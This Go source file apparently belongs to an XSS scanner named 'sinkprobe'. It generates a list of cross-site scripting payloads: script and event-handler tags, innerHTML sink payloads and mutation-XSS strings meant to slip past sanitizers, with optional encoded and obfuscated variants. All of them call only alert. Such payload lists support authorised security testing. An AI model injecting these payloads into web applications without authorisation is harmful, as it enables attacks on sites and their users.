package payloads

import "strings"

// Generator builds the built-in payload list printed by `sinkprobe payloads`.
// Every built-in payload calls alert, which is the only primitive the
// execution oracle observes.
type Generator struct {
	variants bool
	seed     int64
}

// NewGenerator creates a generator. With variants enabled, encoded and
// obfuscated forms of the base payloads are appended.
func NewGenerator(variants bool, seed int64) *Generator {
	return &Generator{variants: variants, seed: seed}
}

// Payloads returns the built-in list, deduplicated, in a stable order
func (g *Generator) Payloads() []string {
	payloads := make([]string, 0, 128)
	payloads = append(payloads, g.getBasePayloads()...)
	payloads = append(payloads, g.getSinkPayloads()...)
	payloads = append(payloads, g.getMutationXSSPayloads()...)

	if g.variants {
		encoder := NewEncoder()
		obfuscator := NewObfuscator(g.seed)

		for _, p := range g.getBasePayloads() {
			payloads = append(payloads, obfuscator.GenerateVariants(p)...)
			payloads = append(payloads, encoder.HTMLEntityEncode(p))
			if strings.Contains(p, "<script") {
				payloads = append(payloads, encoder.UnicodeEncode(p))
			}
		}
	}

	return g.deduplicate(payloads)
}

// getBasePayloads returns reliable payloads that execute in an HTML body context
func (g *Generator) getBasePayloads() []string {
	return []string{
		// Classic script tag payloads
		`<script>alert(1)</script>`,
		`"><script>alert(1)</script>`,

		// IMG tag payloads
		`<img src=x onerror=alert(1)>`,
		`<img src=x onerror="alert(1)">`,
		`"><img src=x onerror=alert(1)>`,

		// SVG payloads
		`<svg onload=alert(1)>`,
		`<svg/onload=alert(1)>`,

		// Other event handlers
		`<details open ontoggle=alert(1)>`,
		`<video src=x onerror=alert(1)>`,
		`<audio src=x onerror=alert(1)>`,
		`<input onfocus=alert(1) autofocus>`,

		// Iframe payloads
		`<iframe src="javascript:alert(1)">`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
	}
}

// getSinkPayloads returns payloads that fire when assigned through innerHTML,
// where inline <script> elements stay inert
func (g *Generator) getSinkPayloads() []string {
	return []string{
		`<img src=x onerror=alert(document.domain)>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<body onpageshow=alert(1)>`,
		`<style onload=alert(1)></style>`,
		`<object data="javascript:alert(1)">`,
		`<embed src="javascript:alert(1)">`,
		`<math><a xlink:href="javascript:alert(1)">click</a></math>`,
		`<a href="javascript:alert(1)">click</a>`,
	}
}

// getMutationXSSPayloads returns mutation-based payloads (mXSS) aimed at sanitizers
func (g *Generator) getMutationXSSPayloads() []string {
	return []string{
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>--></mglyph></table></mtext></math>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
		`<svg></p><style><g/onload=alert(1)>`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`,
		"<img src=`x`onerror=alert(1)>",
	}
}

// deduplicate removes duplicate payloads while preserving order
func (g *Generator) deduplicate(payloads []string) []string {
	if len(payloads) == 0 {
		return payloads
	}
	seen := make(map[string]struct{}, len(payloads))
	unique := make([]string, 0, len(payloads))

	for _, p := range payloads {
		if _, exists := seen[p]; !exists {
			seen[p] = struct{}{}
			unique = append(unique, p)
		}
	}
	return unique
}
